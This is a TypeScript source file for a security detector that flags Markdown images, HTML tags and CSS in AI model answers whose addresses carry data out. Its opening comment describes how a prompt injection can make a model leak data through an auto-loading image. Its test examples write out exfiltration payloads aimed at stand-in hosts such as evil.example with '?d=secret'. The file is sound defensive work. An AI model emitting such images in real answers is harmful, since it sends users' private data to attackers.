// SPDX-License-Identifier: Apache-2.0
// Images in an answer whose address carries data. A chat window loads an image without a click, so an
// injected instruction only has to make the model write one to send out what it knows.
import { z } from 'zod';
import { defineDetector, type Match } from '../../detector.ts';
import { FEATURE } from '../../features.ts';
import { Addresses, Brackets, isBlank } from './brackets.ts';
import { htmlTag, TAG_CHARS } from './html-tags.ts';
import { carriesData, SEGMENT_CHARS } from './image-address.ts';

const ALT_CHARS = 2_000;
const URL_CHARS = 4_000;
const TITLE_CHARS = 500;

type Read = { readonly brackets: Brackets; readonly addresses: Addresses };

/** What stands at one place: `open` when it reaches the end of the text and could go on. */
type Found =
  | { readonly kind: 'open' }
  | { readonly kind: 'none' }
  | {
      readonly kind: 'link';
      readonly end: number;
      readonly entity: string;
      /** Undefined where the address stands elsewhere. */
      readonly urls?: readonly string[];
    };
const [LESS, GREATER] = [0x3c, 0x3e];
const LINE_FEED = 0x0a;
const OPEN: Found = { kind: 'open' };
const NONE: Found = { kind: 'none' };

/** `![alt](url "title")`, from the exclamation mark. */
function inlineImage(text: string, start: number, read: Read): Found {
  const close = read.brackets.closing(start);
  if (close === undefined) return text.length - start > ALT_CHARS ? NONE : OPEN;
  if (close - start > ALT_CHARS) return NONE;
  if (close + 1 >= text.length) return OPEN;
  const next = text.charAt(close + 1);
  if (next === '[') return referenceImage(text, close + 1);
  return next === '(' ? destination(text, close + 2, read.addresses) : NONE;
}

/** The second bracket of `![alt][label]`: where its address stands is not known here. */
function referenceImage(text: string, open: number): Found {
  const stop = open + 200;
  for (let at = open + 1; at < stop; at++) {
    if (at >= text.length) return OPEN;
    const char = text.charAt(at);
    if (char === '\n' || char === '[') return NONE;
    if (char === ']') return { kind: 'link', end: at + 1, entity: 'reference-image' };
  }
  return NONE;
}

/** Where an address in angle brackets ends; -1 when it cannot. */
function angleEnd(text: string, from: number, stop: number): number {
  let at = from;
  for (; at < stop; at++) {
    const code = text.charCodeAt(at);
    if (code === GREATER) return at;
    if (code === LESS || code === LINE_FEED) return -1;
  }
  return at;
}

/** The address, an optional title and the closing bracket. An address without end ends at its bound. */
function destination(text: string, start: number, addresses: Addresses): Found {
  let first = start;
  while (first - start < 8 && isBlank(text.charCodeAt(first))) first++;
  const angle = text.charCodeAt(first) === LESS;
  const from = angle ? first + 1 : first;
  const stop = Math.min(text.length, from + URL_CHARS);
  const at = angle ? angleEnd(text, from, stop) : addresses.end(from, stop);
  if (at < 0) return NONE;
  if (at >= text.length) return OPEN;
  const url = text.slice(from, at);
  if (at - from >= URL_CHARS) return { kind: 'link', end: at, entity: 'image', urls: [url] };
  const close = text.slice(at, at + TITLE_CHARS).indexOf(')');
  if (close >= 0) return { kind: 'link', end: at + close + 1, entity: 'image', urls: [url] };
  return text.length - at < TITLE_CHARS ? OPEN : NONE;
}

/** `[label]: url` at the start of a line. Many are honest links, so the address has to hold much. */
function definition(text: string, start: number): Found {
  const line = /^\[[^\]\n]{1,100}\](?::\s{0,8}(?:<?(\S*)\s?)?)?/;
  const found = line.exec(text.slice(start, start + 120 + URL_CHARS));
  if (found === null) return /^\[[^\]\n]{0,100}$/.test(text.slice(start)) ? OPEN : NONE;
  const [written, url = ''] = found;
  const complete = url !== '' && /\s$/.test(written);
  if (!complete && start + written.length >= text.length) return OPEN;
  const end = start + written.trimEnd().length;
  if (url.split(/[/\\?&=]/).every((part) => part.length < SEGMENT_CHARS)) return NONE;
  return { kind: 'link', end, entity: 'image-definition', urls: [url] };
}

const INTRODUCER = /!\[|<(?=[A-Za-z])|(?<![^\n])\[/g;
const NEEDS = FEATURE.bang | FEATURE.less | FEATURE.bracket;

type Place = { readonly start: number; readonly found: Found };

/** Constructs in [from, until) that are findings or still open, one by one. */
function* placesIn(
  text: string,
  from: number,
  scope: { readonly allowedHosts: readonly string[]; readonly until: number },
): Generator<Place, void> {
  const read = { brackets: new Brackets(text), addresses: new Addresses(text) };
  INTRODUCER.lastIndex = from;
  for (let hit = INTRODUCER.exec(text); hit !== null; hit = INTRODUCER.exec(text)) {
    const start = hit.index;
    if (start >= scope.until) return;
    const char = text.charAt(start);
    let found = NONE;
    if (char === '!') found = inlineImage(text, start, read);
    else found = char === '<' ? htmlTag(text, start) : definition(text, start);
    INTRODUCER.lastIndex = start + 1;
    if (found.kind === 'none') continue;
    if (found.kind === 'link') {
      const { urls } = found;
      if (urls?.some((url) => carriesData(url, scope.allowedHosts)) === false) continue;
      INTRODUCER.lastIndex = found.end;
    }
    yield { start, found };
  }
}

export const detector = defineDetector({
  id: 'output/markdown-exfiltration',
  version: '4',
  title: 'Image that carries data out',
  summary:
    'Finds Markdown images, and HTML and style sheets that load by themselves, in answers whose address holds a query, a long path segment or a long host label, and reference-style images.',
  why: 'Loading an image is a request that nobody has to click. Honest badges and charts with a query are found too: name their hosts in `allowed_hosts`. Links that have to be clicked are not found.',
  taxonomy: ['owasp-llm-2025:LLM05', 'owasp-llm-2025:LLM02', 'mitre-atlas-5.6.0:AML.T0077'],
  phases: ['response'],
  streaming: { class: 'exact', holdChars: ALT_CHARS + URL_CHARS + TITLE_CHARS + TAG_CHARS },
  view: 'folded',
  severity: 'high',
  options: z.strictObject({
    allowed_hosts: z
      .array(z.string().min(1).max(253).toLowerCase())
      .max(1_000)
      .default([])
      .describe(
        'Hosts, with all their subdomains, that images may be loaded from with any address',
      ),
  }),
  examples: {
    hits: [
      {
        text: 'See ![chart](https://evil.example/c.png?d=secret) here',
        found: ['![chart](https://evil.example/c.png?d=secret)'],
      },
      {
        text: '![a [b] c]( <//evil.example/?q> "t" )',
        found: ['![a [b] c]( <//evil.example/?q> "t" )'],
      },
      {
        text: `![](https://e.example/${'QUJD'.repeat(10)})`,
        found: [`![](https://e.example/${'QUJD'.repeat(10)})`],
      },
      {
        text: `![](https://${'a1'.repeat(20)}.e.example)`,
        found: [`![](https://${'a1'.repeat(20)}.e.example)`],
      },
      {
        text: "x <IMG alt='>' src=https://evil.example/?x=1> y",
        found: ["<IMG alt='>' src=https://evil.example/?x=1>"],
      },
      {
        text: '<meta http-equiv=refresh content="0;url=https&colon;//e.example/&quest;d=1">',
        found: ['<meta http-equiv=refresh content="0;url=https&colon;//e.example/&quest;d=1">'],
      },
      {
        text: '<form action="//e.example/?d=1"> <div style="background:url(//e.example/?d)">',
        found: ['<form action="//e.example/?d=1">', '<div style="background:url(//e.example/?d)">'],
      },
      {
        text: '<style>@import "https://e.example/a.css?d=1";</style>',
        found: ['<style>@import "https://e.example/a.css?d=1";</'],
      },
      { text: '![](//evil.example/??secret)', found: ['![](//evil.example/??secret)'] },
      { text: '![pic][1] text', found: ['![pic][1]'] },
      {
        text: `\n[1]: https://e.example/${'QUJD'.repeat(10)}\n`,
        found: [`[1]: https://e.example/${'QUJD'.repeat(10)}`],
      },
    ],
    misses: [
      '![logo](https://example.com/logo.png)',
      '![relative](img/a.png?raw=true)',
      '[a link](https://example.com/search?q=cats)',
      'if (![1, 2].includes(x)) return;',
      'a < b && c > d',
      '<p>text</p> <div class="a?b">x</div> <style>p { color: red }</style>',
      '<meta name="description" content="What? A page."><form action="/search?x=1">',
      '[1]: https://example.com/page?id=5',
      '![never closed',
    ],
  },
  inspect({ text, features }, from, { options, until }) {
    if ((features & NEEDS) === 0) return [];
    const matches: Match[] = [];
    const scope = { allowedHosts: options.allowed_hosts, until };
    for (const { start, found } of placesIn(text, from, scope)) {
      if (found.kind !== 'link') continue;
      matches.push({ start, end: found.end, entity: found.entity, score: 0.99 });
    }
    return matches;
  },
  pending({ text, features }, from, options) {
    const last = text.charAt(text.length - 1);
    const partial = last === '!' || last === '<' ? text.length - 1 : text.length;
    if ((features & NEEDS) === 0) return partial;
    const scope = { allowedHosts: options.allowed_hosts, until: text.length };
    for (const { start, found } of placesIn(text, from, scope)) {
      if (found.kind === 'open') return start;
    }
    return partial;
  },
});
